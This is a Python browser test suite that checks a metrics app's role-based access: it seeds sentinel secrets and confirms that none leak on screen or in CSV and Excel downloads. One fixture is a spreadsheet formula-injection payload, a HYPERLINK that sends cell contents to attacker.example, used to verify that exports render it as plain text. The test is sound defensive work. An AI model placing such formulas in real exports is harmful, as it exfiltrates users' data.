"""Data protection as a security reviewer checks it: a real OpenID Connect provider on loopback,
`throughline serve`, headless Chromium, one signed-in user per role and PMOs limited to one
practice and to none, over a store seeded with sentinel values of every protected kind and
records of another practice.

Each visitor opens every page their role may (case trace by link and by search, drill-downs to
a record and an attempt), downloads every CSV and Excel file, and nothing out of their scope or
that their role must not see appears on screen or in a file; no Excel cell is a formula. The
matrix (visitor × page: files read, what leaked) is printed and saved under test-artifacts/.
"""

from __future__ import annotations

import dataclasses
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import pytest
from playwright.sync_api import Browser, Page, sync_playwright
from sqlalchemy import select

from metrics.facts import write_and_refresh
from metrics.views.access import ANONYMOUS, Access
from metrics.views.handoffs import record_action
from store.canonical import (
    Activity,
    ErrorClass,
    QuarantineRow,
    SyncAttemptRow,
    SyncStatus,
)
from store.db import make_engine
from store.migrate import upgrade
from store.tables import AuditEntry, Object, SyncAttempt
from tests.browser.conftest import ARTIFACTS, CHROMIUM_ARGS, require_chromium
from tests.browser.oidc import (
    Seen,
    Served,
    authorize,
    idle,
    provider,
    put_user,
    read_page,
    serving,
    sign_in,
)
from tests.metrics.builders import deal, invoice, merge, project, stage, work

pytestmark = [pytest.mark.browser, pytest.mark.slow]

IN, OUT = "Cloud", "Strategy"
EMAIL = "vera.sentinel@firm.example"
IBAN = "DE89 3704 0044 0532 0130 00"
VAT = "DE136695976"
EIN = "12-3456789"
CARD = "4111 1111 1111 1111"
TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzZW50aW5lbCJ9.c2VudGluZWwtc2lnbmF0dXJl"
SECRET_TEXT = f"contact {EMAIL}, IBAN {IBAN}, VAT {VAT}, EIN {EIN}, card {CARD}, Bearer {TOKEN}"
FORMULA_CUSTOMER = '=HYPERLINK("http://attacker.example/?"&B2,"open")'
#: Sentinel → the kind of value it is (`metrics.views.access` kinds; "never": removed before storage).
SENTINELS = {
    EMAIL: "email",
    IBAN: "bank",
    IBAN.replace(" ", ""): "bank",
    VAT: "tax_id",
    EIN: "tax_id",
    CARD: "never",
    CARD.replace(" ", ""): "never",
    TOKEN: "never",
}
OUT_OF_SCOPE = ("D-STRAT-7Q", "P-STRAT-7Q", "I-STRAT-7Q", "Zanzibar Strategy Holdings")
IN_SCOPE = ("D-CLOUD-4K", "Cirrus Cloudworks")
#: Visitor → (subject, claims).
VISITORS: dict[str, tuple[str, dict[str, object]]] = {
    "cfo": ("u-cfo", {"roles": ["cfo"]}),
    "pmo (Cloud)": ("u-pmo", {"roles": ["pmo"], "practices": [IN]}),
    "pmo (no practice)": ("u-pmo0", {"roles": ["pmo"]}),
    "support": ("u-sup", {"roles": ["support"]}),
    "admin": ("u-adm", {"roles": ["admin"]}),
}
ACCESS = {
    "cfo": Access("cfo", "c"),
    "pmo (Cloud)": Access("pmo", "p", (IN,)),
    "pmo (no practice)": Access("pmo", "p0", ()),
    "support": Access("support", "s"),
    "admin": Access("admin", "a"),
}


@dataclass
class Store:
    url: str
    attempt_id: int


def seed(url: str) -> Store:
    """Sentinel records: a stuck Cloud deal owned by an e-mail address whose provisioning
    failed with every protected kind in its message and payload, a billed Cloud project whose
    customer is a spreadsheet formula, and the same of the Strategy practice; a quarantined
    record and a work-queue note holding the sentinels."""
    engine = make_engine(url)
    upgrade(engine)
    now = datetime.now(UTC).replace(microsecond=0)
    won = now - timedelta(days=30)
    rows = merge(
        deal("D-CLOUD-4K", practice=IN, customer="Cirrus Cloudworks"),
        stage("D-CLOUD-4K", Activity.DEAL_WON, won),
        deal("D-CLOUD-BILL", practice=IN, customer=FORMULA_CUSTOMER),
        stage("D-CLOUD-BILL", Activity.DEAL_WON, won),
        project(
            "P-CLOUD-BILL",
            "D-CLOUD-BILL",
            won + timedelta(days=2),
            practice=IN,
            customer=FORMULA_CUSTOMER,
        ),
        work(
            "W-CLOUD-1",
            "P-CLOUD-BILL",
            "900",
            "USD",
            (won + timedelta(days=3)).date(),
            approved=won + timedelta(days=4),
            logged=won + timedelta(days=3),
        ),
        work(
            "W-CLOUD-2",
            "P-CLOUD-BILL",
            "700",
            "USD",
            (won + timedelta(days=3)).date(),
            approved=won + timedelta(days=4),
            logged=won + timedelta(days=3),
            invoice="I-CLOUD-BILL",
        ),
        invoice(
            "I-CLOUD-BILL",
            "P-CLOUD-BILL",
            "700",
            created=won + timedelta(days=10),
            posted=won + timedelta(days=12),
            period_end=(won + timedelta(days=5)).date(),
        ),
        deal("D-STRAT-7Q", practice=OUT, customer=OUT_OF_SCOPE[3]),
        stage("D-STRAT-7Q", Activity.DEAL_WON, won),
        deal("D-STRAT-BILL", practice=OUT, customer=OUT_OF_SCOPE[3]),
        stage("D-STRAT-BILL", Activity.DEAL_WON, won),
        project(
            "P-STRAT-7Q",
            "D-STRAT-BILL",
            won + timedelta(days=2),
            practice=OUT,
            customer=OUT_OF_SCOPE[3],
        ),
        work(
            "W-STRAT-1",
            "P-STRAT-7Q",
            "500",
            "USD",
            (won + timedelta(days=3)).date(),
            approved=won + timedelta(days=4),
            logged=won + timedelta(days=3),
        ),
        invoice(
            "I-STRAT-7Q",
            "P-STRAT-7Q",
            "500",
            created=won + timedelta(days=10),
            posted=won + timedelta(days=20),
            period_end=(won + timedelta(days=5)).date(),
        ),
    )
    rows.objects[0] = dataclasses.replace(rows.objects[0], owner=EMAIL)
    for key, deal_key, practice_note in (
        ("A-CLOUD", "D-CLOUD-4K", SECRET_TEXT),
        ("A-STRAT", "D-STRAT-7Q", OUT_OF_SCOPE[3]),
    ):
        rows.sync_attempts.append(
            SyncAttemptRow(
                "ipaas",
                key,
                "crm-psa",
                "crm-psa/project_provisioning",
                SyncStatus.FAILED,
                won + timedelta(hours=2),
                attempt_number=1,
                error_class=ErrorClass.VALIDATION,
                error_message=f"customer rejected: {practice_note}",
                error_signature="customer rejected",
                trace_key=f"T-{key}",
                object_system="crm",
                object_type="deal",
                object_key=deal_key,
                payload={
                    "customer": {"contactEmail": EMAIL, "iban": IBAN, "ust_idnr": VAT},
                    "headers": [["Authorization", f"Bearer {TOKEN}"]],
                    "memo": practice_note,
                    "creditCard": CARD,
                },
            )
        )
    rows.quarantined.append(
        QuarantineRow(
            "demo_crm",
            "opportunities",
            "bad record",
            {"Id": "Q-1", "Description": SECRET_TEXT},
            "Q-1",
        )
    )
    write_and_refresh(engine, rows)
    with engine.connect() as conn:
        deal_id = conn.execute(select(Object.id).where(Object.source_key == "D-CLOUD-4K")).scalar()
        attempt = conn.execute(select(SyncAttempt.id).where(SyncAttempt.source_key == "A-CLOUD"))
        attempt_id = int(attempt.scalar_one())
    record_action(
        ANONYMOUS,
        engine,
        case_type="deal",
        case_id=int(deal_id or 0),
        case_key="D-CLOUD-4K",
        action="note",
        actor="admin",
        note=f"called the customer: {SECRET_TEXT}",
    )
    engine.dispose()
    return Store(url, attempt_id)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    chromium = require_chromium()
    with sync_playwright() as p:
        launched = p.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            launched.close()


def visits(store: Store, access: Access) -> dict[str, str]:
    """Label → URL path (with parameters) of every page and drill-down the visitor may open."""
    wanted = {
        "overview": ("overview", ""),
        "invoice cycle": ("invoices", "invoice_cycle"),
        "unbilled": ("unbilled", "unbilled"),
        "handoffs": ("handoffs", "handoffs"),
        "handoffs → a deal": ("handoffs", "handoffs?deal=D-CLOUD-4K"),
        "sync errors": ("sync", "sync_errors"),
        "sync errors → an attempt": (
            "sync",
            f"sync_errors?focus=class%7Cvalidation&attempt={store.attempt_id}",
        ),
        "trace by link (in scope)": ("trace", "case_trace?case=deal:D-CLOUD-4K"),
        "trace by link (out of scope)": ("trace", "case_trace?case=deal:D-STRAT-7Q"),
        "trace of a project by link": ("trace", "case_trace?case=project:P-STRAT-7Q"),
        "slos": ("slos", "slos"),
        "collectors": ("collectors", "collectors"),
        "audit log": ("audit", "audit"),
    }
    return {label: path for label, (page, path) in wanted.items() if access.can_open(page)}


def unechoed(text: str) -> str:
    """`text` without the not-found sentence that repeats the key a link asked for (the
    visitor's own input: a case out of their scope looks like one that does not exist)."""
    return re.sub(r"There is no \w+ \S+ in the store", "", text)


def forbidden(visitor: str) -> list[str]:
    access = ACCESS[visitor]
    values = [s for s, kind in SENTINELS.items() if kind == "never" or not access.sees(kind)]  # type: ignore[arg-type]
    if access.practices is not None:
        values += OUT_OF_SCOPE
    if access.practices == ():
        values += IN_SCOPE
    return values


def test_no_role_sees_out_of_scope_records_or_protected_values_on_screen_or_in_files(
    tmp_path_factory: pytest.TempPathFactory, browser: Browser
) -> None:
    home = tmp_path_factory.mktemp("protection")
    store = seed(f"sqlite:///{home}/store.db")
    matrix: list[str] = []
    problems: list[str] = []
    with provider(home) as idp, serving(idp, home, store.url) as served:
        for visitor, (subject, claims) in VISITORS.items():
            put_user(idp, subject, {"email": f"{subject}@firm.example", **claims})
            context = browser.new_context(
                viewport={"width": 1400, "height": 2400}, accept_downloads=True
            )
            page = context.new_page()
            try:
                sign_in(page, served, idp, subject)
                idle(page)
                seen: dict[str, Seen] = {}
                for label, path in visits(store, ACCESS[visitor]).items():
                    started = time.monotonic()
                    page.goto(f"{served.url}/{path}")
                    idle(page)
                    seen[label] = read_page(page)
                    print(f"{visitor} {label}: {time.monotonic() - started:.1f}s", flush=True)
                if ACCESS[visitor].can_open("trace"):
                    seen["trace by search"] = search(page, served, "7Q")
                for label, what in seen.items():
                    text = unechoed(what.everything())
                    leaks = [v for v in forbidden(visitor) if v in text]
                    matrix.append(
                        f"{visitor:18} {label:30} {len(what.files):3} files  "
                        f"{'LEAK ' + ', '.join(leaks) if leaks else 'ok'}"
                    )
                    problems += [f"{visitor} / {label}: {leak}" for leak in leaks]
                    problems += [f"{visitor} / {label}: formula {f}" for f in what.formulas]
                    if "Traceback" in what.text or 'File "' in what.text:
                        problems.append(f"{visitor} / {label}: a traceback on screen")
                expect_seen(visitor, seen, problems)
            finally:
                context.close()
    report = "\n".join(matrix)
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / "data-protection-matrix.txt").write_text(report + "\n")
    print("\nvisitor            page                           files  result\n" + report)
    assert not problems, "\n".join(problems)


def search(page: Page, served: Served, text: str) -> Seen:
    """Case trace's search box: type `text` and read the results."""
    page.goto(f"{served.url}/case_trace")
    idle(page)
    box = page.get_by_label("Find a deal, project or invoice")
    box.fill(text)
    box.press("Enter")
    page.get_by_text("Nothing matches").or_(page.get_by_test_id("stDataFrame")).first.wait_for()
    idle(page)
    return read_page(page)


def expect_seen(visitor: str, seen: dict[str, Seen], problems: list[str]) -> None:
    """What each visitor must see: the test would pass vacuously on an empty store."""
    access = ACCESS[visitor]
    every = "\n".join(s.everything() for s in seen.values())
    if access.practices != () and IN_SCOPE[0] not in every:
        problems.append(f"{visitor}: the in-scope deal is nowhere")
    if access.sees("email") and access.practices != () and EMAIL not in every:
        problems.append(f"{visitor}: the owner's e-mail address, theirs to see, is nowhere")
    if access.practices is None and OUT_OF_SCOPE[0] not in every:
        problems.append(f"{visitor}: the Strategy deal, theirs to see, is nowhere")
    searched = seen.get("trace by search")
    if searched is not None and (len(searched.files) > 0) != (access.practices is None):
        problems.append(f"{visitor}: the search for the Strategy cases found the wrong thing")
    if access.can_open("invoices") and FORMULA_CUSTOMER not in every:
        problems.append(f"{visitor}: the formula customer is not shown as text")


def test_a_role_removed_at_the_provider_is_gone_once_the_session_ends(
    tmp_path_factory: pytest.TempPathFactory, browser: Browser
) -> None:
    home = tmp_path_factory.mktemp("session")
    store = seed(f"sqlite:///{home}/store.db")
    hours = 8 / 3600  # sessions of eight seconds
    with (
        provider(home) as idp,
        serving(idp, home, store.url, AUTH__MAX_SESSION_HOURS=str(hours)) as served,
    ):
        put_user(idp, "u-leaver", {"email": "leaver@firm.example", "roles": ["cfo"]})
        context = browser.new_context()
        page = context.new_page()
        try:
            sign_in(page, served, idp, "u-leaver")
            page.get_by_text("role: cfo").wait_for(timeout=60_000)
            put_user(idp, "u-leaver", {"email": "leaver@firm.example", "roles": []})
            time.sleep(9)
            page.goto(f"{served.url}/invoice_cycle")
            page.get_by_text("Your session has ended").wait_for(timeout=60_000)
            assert "Invoice cycle" not in page.locator("h1").all_inner_texts()
            page.get_by_role("button", name="Sign in again").click()
            authorize(page, served, idp, "u-leaver")
            page.get_by_text("No access yet").wait_for(timeout=60_000)
        finally:
            context.close()
    engine = make_engine(store.url)
    with engine.connect() as conn:
        actions = [
            tuple(r)
            for r in conn.execute(
                select(AuditEntry.action, AuditEntry.role)
                .where(AuditEntry.subject == "u-leaver")
                .order_by(AuditEntry.id)
            )
        ]
    engine.dispose()
    assert actions == [("sign_in", "cfo"), ("session_ended", ""), ("sign_in_refused", "")]
